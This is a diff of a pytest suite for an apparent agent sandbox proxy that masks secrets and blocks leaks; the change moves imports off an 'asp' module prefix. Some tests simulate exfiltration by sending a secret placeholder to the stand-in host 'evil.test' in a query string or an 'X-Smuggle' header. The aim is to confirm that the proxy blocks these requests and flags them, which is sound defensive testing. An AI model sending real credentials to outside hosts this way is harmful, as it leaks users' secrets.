@@ -5,8 +5,11 @@ import pytest
 from mitmproxy import http
 from mitmproxy.test import tflow
 
+from agent_sandbox_proxy.addon import META
+from agent_sandbox_proxy.messages import BLOCK_HEADER
+from agent_sandbox_proxy.secrets import SecretSet, StreamMasker
 from proxy_helpers import (ALL_SECRETS, OTHER_PLACEHOLDER, OTHER_SECRET, PLACEHOLDER, SCOPED_PLACEHOLDER, SECRETS,
-                           SCOPED_SECRET, SECRET, Env, asp, gzipped, plain_flow, tunnel_flow, write_json)
+                           SCOPED_SECRET, SECRET, Env, gzipped, plain_flow, tunnel_flow, write_json)
 
 
 @pytest.fixture(autouse=True)
@@ -39,7 +42,7 @@ class Upstream:
 
 
 def is_leak_block(flow):
-    return flow.response is not None and flow.response.headers.get(asp.BLOCK_HEADER, "").endswith("reason=leak")
+    return flow.response is not None and flow.response.headers.get(BLOCK_HEADER, "").endswith("reason=leak")
 
 
 def test_placeholder_is_swapped_in_its_header_over_https_to_its_host(env, caplog):
@@ -117,7 +120,7 @@ def test_listener_scoped_secret(env):
 
 def test_placeholder_to_a_blocked_host_keeps_the_block_and_flags_the_leak(env):
     flow = Upstream(env).send(tunnel_flow("evil.test", path="/?k=" + PLACEHOLDER))
-    assert flow.response.headers[asp.BLOCK_HEADER].endswith("reason=no-rule")
+    assert flow.response.headers[BLOCK_HEADER].endswith("reason=no-rule")
     line = env.audit_lines()[-1]
     assert line["leak"] is True and line["secrets"] == ["github"]
 
@@ -126,7 +129,7 @@ def test_placeholder_in_connect_headers_is_a_leak(env):
     flow = env.connect("example.com", headers=[("Proxy-Authorization", "Basic " + PLACEHOLDER)])
     assert is_leak_block(flow)
     flow = env.connect("evil.test", headers=[("X-Smuggle", PLACEHOLDER)])
-    assert flow.response.headers[asp.BLOCK_HEADER].endswith("reason=no-rule")
+    assert flow.response.headers[BLOCK_HEADER].endswith("reason=no-rule")
     assert env.audit_lines()[-1]["leak"] is True
 
 
@@ -164,7 +167,7 @@ def test_streamed_response_is_masked_across_chunks(env):
     body = (b"x" * 50 + SECRET.encode() + b"y" * 7 + OTHER_SECRET.encode() + b"z" * 3) * 3
     expected = body.replace(SECRET.encode(), PLACEHOLDER.encode()).replace(OTHER_SECRET.encode(), OTHER_PLACEHOLDER.encode())
     for size in (1, 2, 5, 13, len(SECRET) - 1, len(SECRET), 64, len(body)):
-        masker = asp.StreamMasker(env.addon.secrets, {})
+        masker = StreamMasker(env.addon.secrets, {})
         out = b"".join(masker(body[i:i + size]) for i in range(0, len(body), size)) + masker(b"")
         assert out == expected, size
         assert masker.meta["masked"] is True
@@ -176,7 +179,7 @@ def test_streaming_is_wired_in_responseheaders(env):
     flow.response = http.Response.make(200, b"")
     flow.response.stream = True
     env.addon.responseheaders(flow)
-    assert isinstance(flow.response.stream, asp.StreamMasker)
+    assert isinstance(flow.response.stream, StreamMasker)
     flow.response = http.Response.make(200, b"", {"Content-Encoding": "br"})
     flow.response.stream = True
     env.addon.responseheaders(flow)
@@ -193,7 +196,7 @@ def test_request_streaming_is_off_when_placeholders_must_be_found(env):
 def test_websocket_messages(env):
     flow = tflow.twebsocketflow()
     flow.client_conn.sockname = ("127.0.0.1", 8080)
-    flow.metadata[asp.META] = {"decision": "allow", "secrets": []}
+    flow.metadata[META] = {"decision": "allow", "secrets": []}
     flow.websocket.messages.append(
         tflow.websocket.WebSocketMessage(tflow.Opcode.TEXT, True, b"auth " + PLACEHOLDER.encode()))
     env.addon.websocket_message(flow)
@@ -235,7 +238,7 @@ def test_restore_survives_a_secrets_reload_in_flight(env):
 def test_a_failure_while_masking_withholds_the_response(env, monkeypatch):
     def boom(*args):
         raise ValueError("masking broke")
-    monkeypatch.setattr(asp.SecretSet, "mask", boom)
+    monkeypatch.setattr(SecretSet, "mask", boom)
     resp = http.Response.make(200, b"token " + SECRET.encode())
     flow = Upstream(env).send(tunnel_flow("example.com"), resp)
     assert flow.response.status_code == 403 and SECRET.encode() not in flow.response.content
